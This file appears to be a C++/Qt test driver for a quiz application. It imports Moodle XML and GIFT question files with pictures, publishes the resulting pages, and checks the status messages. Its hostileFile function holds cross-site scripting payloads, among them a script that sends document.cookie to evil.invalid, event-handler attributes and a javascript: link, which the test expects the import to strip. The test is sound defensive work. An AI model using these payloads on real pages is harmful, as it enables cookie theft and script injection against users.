// A teacher imports question files with pictures in the real main window and
// publishes each imported paper; import.test.mjs then opens the pages in
// Chromium and checks that every picture shows. A Moodle XML file carries its
// pictures as @@PLUGINFILE@@ files (as Moodle's own multichoice example does);
// a GIFT file shows a picture the teacher put into the pictures folder; a
// hostile file's scripts are taken out on import.
// Usage: tess_importpublish <output folder> (prints one page path a line)
#include "app/appfixture.h"
#include "app/tessapplication.h"
#include "editor/editorfixture.h"
#include "generate/publish.h"

#include <QAction>
#include <QBuffer>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QPainter>
#include <QTextStream>
#include <stdexcept>

namespace {

struct Failure : std::runtime_error {
    using std::runtime_error::runtime_error;
};

[[noreturn]] void fail(const QString& message) {
    throw Failure(message.toStdString());
}

struct RecordingOpener : tess::PageOpener {
    QStringList opened;
    void open(const QString& path) override { opened << path; }
};

// A picture of the given size and format, drawn here: nothing is fetched.
QByteArray picture(int width, int height, const char* format) {
    QImage image(width, height, QImage::Format_RGB32);
    image.fill(QColor(0x01, 0x21, 0x69));
    QPainter painter(&image);
    painter.setPen(QPen(QColor(0xC8, 0x10, 0x2E), 4));
    painter.drawLine(0, height / 2, width, height / 2);
    painter.drawLine(width / 2, 0, width / 2, height);
    painter.end();
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    if (!image.save(&buffer, format))
        fail(QStringLiteral("cannot make a %1 picture").arg(QLatin1String(format)));
    return bytes;
}

void writeFile(const QString& path, const QByteArray& bytes) {
    QFile file(path);
    if (!file.open(QIODevice::WriteOnly) || file.write(bytes) != bytes.size())
        fail(QStringLiteral("cannot write ") + path);
}

// Moodle's multichoice example, with its flag and a picture in a choice
// (single quotes, a name with a blank written percent-encoded).
QByteArray moodleFile() {
    return QByteArray(R"(<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <question type="category">
    <category><text>$course$/top/地理/国旗</text></category>
  </question>
  <question type="multichoice">
    <name><text>Name of question</text></name>
    <questiontext format="html">
      <text><![CDATA[<p>What is the flag of the United Kingdom? <img src="@@PLUGINFILE@@/flag-uk.jpg" alt="British Flag" width="30" height="20" /></p>]]></text>
      <file name="flag-uk.jpg" path="/" encoding="base64">)") +
           picture(30, 20, "JPG").toBase64() + R"(</file>
    </questiontext>
    <generalfeedback format="html"><text></text></generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <single>true</single>
    <shuffleanswers>1</shuffleanswers>
    <answernumbering>abc</answernumbering>
    <answer fraction="100" format="html">
      <text><![CDATA[<p>This one <IMG SRC='@@PLUGINFILE@@/union%20jack.png' ALT='flag'></p>]]></text>
      <file name="union jack.png" path="/" encoding="base64">)" +
           picture(12, 8, "PNG").toBase64() + R"(</file>
      <feedback format="html"><text>Correct!</text></feedback>
    </answer>
    <answer fraction="0" format="html">
      <text>A distractor</text>
      <feedback format="html"><text>Ooops!</text></feedback>
    </answer>
  </question>
</quiz>
)";
}

// A colleague's file with scripts in every form that would run, fetch or
// open a box on the students' page; the import takes all 8 out. The picture
// is broken on purpose: its error handler would run.
QByteArray hostileFile() {
    return QByteArray(R"xml(<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <question type="category">
    <category><text>$course$/top/恶意</text></category>
  </question>
  <question type="multichoice">
    <name><text>hostile</text></name>
    <questiontext format="html">
      <text><![CDATA[<p>哪个是安全的?<script>window.__ran = 1; fetch('http://evil.invalid/' + document.cookie)</script>
<img src="data:image/png;base64,AAAA" onerror="window.__ran = 2; alert(2)">
<a id="bait" href="javascript:window.__ran = 3; alert(3)">点我</a>
<iframe src="http://evil.invalid/frame"></iframe><svg onload="window.__ran = 4"></svg>
<style>body {
    background: url(http://evil.invalid/bg.png) }</style>
<link rel="stylesheet" href="http://evil.invalid/a.css"></p>]]></text>
    </questiontext>
    <single>true</single>
    <answer fraction="100" format="html">
      <text><![CDATA[<b id="hover" onmouseover="window.__ran = 5; alert(5)">甲</b>]]></text>
    </answer>
    <answer fraction="0" format="html"><text>乙</text></answer>
  </question>
</quiz>
)xml");
}

class Teacher {
public:
    Teacher(TMainForm& form, const QDir& out) : m_form(form), m_out(out) {}

    // Imports the file with 文件 > 导入题目..., and publishes the paper it
    // gives with Ctrl+S's command. Returns the page's path. The import is
    // to tell nothing but `told`, when given.
    QString importAndPublish(const QString& file, const QString& pageName,
                             const QString& told = QString()) {
        const QString page = m_out.absoluteFilePath(pageName);
        // The teacher's defaults name the page new papers are published to.
        m_form.bank().Defaults.outputFile = page;
        messageArea(m_form)->clear();
        tess::Prompts::instance().queueFile(file);
        command("OnImportQuestions")->trigger();
        const QString said = messageArea(m_form)->toPlainText();
        if (!said.contains(told))
            fail(QStringLiteral("importing %1, the message area lacks \"%2\":\n%3")
                     .arg(file, told, said));
        if (!said.contains(QStringLiteral("导入了试卷")) ||
            QString(said).remove(told).contains(QStringLiteral("警告")) ||
            said.contains(QStringLiteral("错误")))
            fail(QStringLiteral("importing %1, the message area reads:\n%2").arg(file, said));
        command("OnGenPaper")->trigger();
        const QString published = messageArea(m_form)->toPlainText();
        if (!published.endsWith(QStringLiteral("试卷成功生成到:") + page + QLatin1Char('.')))
            fail(QStringLiteral("publishing %1, the message area reads:\n%2").arg(file, published));
        if (!tess::Prompts::instance().shownTexts().isEmpty())
            fail(QStringLiteral("boxes were shown: ") +
                 tess::Prompts::instance().shownTexts().join(QStringLiteral(" | ")));
        return page;
    }

private:
    QAction* command(const char* name) {
        auto* action = m_form.findChild<QAction*>(QLatin1String(name));
        if (!action || !action->isEnabled())
            fail(QStringLiteral("the command %1 is missing or greyed").arg(QLatin1String(name)));
        return action;
    }

    TMainForm& m_form;
    QDir m_out;
};

} // namespace

int main(int argc, char** argv) {
    tess::TessApplication app(argc, argv);
    QTextStream err(stderr);
    if (argc != 2) {
        err << "usage: tess_importpublish <output folder>\n";
        return 2;
    }
    const QDir out(QString::fromLocal8Bit(argv[1]));
    if (!out.mkpath(QStringLiteral(".")))
        return 2;

    QStringList pages;
    try {
        EditorBank bank;
        const QString xml = bank.dir.filePath(QStringLiteral("multichoice.xml"));
        writeFile(xml, moodleFile());
        // A picture the teacher keeps in the pictures folder, shown by a GIFT question.
        QDir().mkpath(tess::ProgramFiles::PicturesFolder());
        writeFile(
            QDir(tess::ProgramFiles::PicturesFolder()).filePath(QStringLiteral("中国 地图.png")),
            picture(16, 10, "PNG"));
        const QString gift = bank.dir.filePath(QStringLiteral("地图.gift"));
        writeFile(gift, QStringLiteral("::地图:: [html]<p>看图: <img src='images/中国%20地图.png' "
                                       "width=16></p> 图中是中国吗? {T}\n")
                            .toUtf8());

        TMainForm form;
        app.setErrorHandler([&form](const QString& message) { form.ReportError(message); });
        RecordingOpener opener;
        form.SetPageOpener(&opener);
        form.SetSignedInAccount(QStringLiteral("Admin"));
        form.OpenPaperBank();
        form.show();
        Teacher teacher(form, out);
        pages << teacher.importAndPublish(xml, QStringLiteral("moodle.html"));
        pages << teacher.importAndPublish(gift, QStringLiteral("gift.html"));
        const QString hostile = bank.dir.filePath(QStringLiteral("hostile.xml"));
        writeFile(hostile, hostileFile());
        pages << teacher.importAndPublish(
            hostile, QStringLiteral("hostile.html"),
            QStringLiteral("警告: 试卷 \"恶意\": 为安全起见删除了 8 处脚本或不安全的内容."));
        if (opener.opened != pages)
            fail(QStringLiteral("the pages opened were \"%1\"")
                     .arg(opener.opened.join(QStringLiteral(", "))));
        app.setErrorHandler(nullptr);
    } catch (const std::exception& e) {
        err << "tess_importpublish: " << QString::fromStdString(e.what()) << "\n";
        return 1;
    }
    QTextStream(stdout) << pages.join(QLatin1Char('\n')) << "\n";
    return 0;
}
